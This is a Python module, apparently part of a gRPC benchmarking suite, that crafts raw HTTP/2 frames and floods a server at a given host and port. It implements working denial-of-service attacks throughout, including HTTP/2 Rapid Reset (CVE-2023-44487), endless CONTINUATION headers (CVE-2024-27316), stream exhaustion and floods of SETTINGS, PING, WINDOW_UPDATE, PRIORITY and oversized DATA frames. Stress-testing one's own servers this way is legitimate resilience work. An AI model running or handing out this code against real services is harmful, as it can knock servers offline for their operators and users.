"""Floods of HTTP/2 frames that no gRPC library sends."""

from __future__ import annotations

import itertools
import select
import socket
import struct
from collections.abc import Callable, Iterator, Mapping

from experiments.benchmarks.bare_grpc import GENERATE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_HEADERS = 4
BATCH = 200
STUCK_S = 5.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(address: str, method: str = GENERATE) -> bytes:
    """The header block of a gRPC call: literal fields without indexing (RFC 7541, 6.2.2)."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": method,
        ":authority": address,
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(_field(*field) for field in fields.items())


def _field(name: str, value: str) -> bytes:
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def _streams(block: bytes, after: Callable[[int], bytes]) -> Iterator[bytes]:
    for first in itertools.count(1, 2 * BATCH):
        ids = range(first, first + 2 * BATCH, 2)
        yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + after(stream) for stream in ids)


def _resets(block: bytes) -> Iterator[bytes]:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    return _streams(block, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def _open_streams(block: bytes) -> Iterator[bytes]:
    """More streams than a connection may have, without a message."""
    return _streams(block, lambda stream: b"")


def _continuations(block: bytes) -> Iterator[bytes]:
    """Headers without end (CVE-2024-27316 and others)."""
    yield frame(HEADERS, 0, 1, block)
    while True:
        yield frame(CONTINUATION, 0, 1, _field("x-filler", "x" * 100)) * BATCH


def _repeated(one: bytes) -> Callable[[bytes], Iterator[bytes]]:
    return lambda block: itertools.repeat(one * BATCH)


def _in_a_stream(one: bytes) -> Callable[[bytes], Iterator[bytes]]:
    return lambda block: itertools.chain([frame(HEADERS, END_HEADERS, 1, block)], itertools.repeat(one * BATCH))


ATTACKS: Mapping[str, Callable[[bytes], Iterator[bytes]]] = {
    "resets": _resets,
    "open-streams": _open_streams,
    "continuation": _continuations,
    "settings": _repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))),
    "ping": _repeated(frame(PING, 0, 0, b"12345678")),
    "window-update": _repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "priority": _repeated(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16))),
    "empty-data": _in_a_stream(frame(DATA, 0, 1)),
    "message": _in_a_stream(frame(DATA, 0, 1, struct.pack(">BI", 0, 2**32 - 1) + bytes(2**14 - 5))),
}
"""By kind, what follows the beginning of a connection: batches of frames without end, for a call's header block."""


class Attack:
    """One connection of an attack on the server at ``address`` (``host:port``), over which `send` sends batches."""

    def __init__(self, kind: str, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._batches = ATTACKS[kind](headers(address))
        self.sent_bytes = 0
        self.is_over = False
        """Whether the server has closed the connection, or has read nothing for `STUCK_S`."""
        self._socket = socket.socket()
        try:
            self._socket.connect((host, int(port)))
            self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
            self._socket.setblocking(False)
        except OSError:
            self.is_over = True

    def send(self) -> None:
        """Send a batch, and read whatever comes."""
        left = memoryview(next(self._batches))
        while left and not self.is_over:
            readable, writable, _ = select.select([self._socket], [self._socket], [], STUCK_S)
            try:
                if not (readable or writable) or (readable and not self._socket.recv(2**16)):
                    self.is_over = True
                elif writable:
                    sent = self._socket.send(left)
                    self.sent_bytes += sent
                    left = left[sent:]
            except BlockingIOError:
                continue
            except OSError:
                self.is_over = True

    def close(self) -> None:
        """Close the connection."""
        self._socket.close()
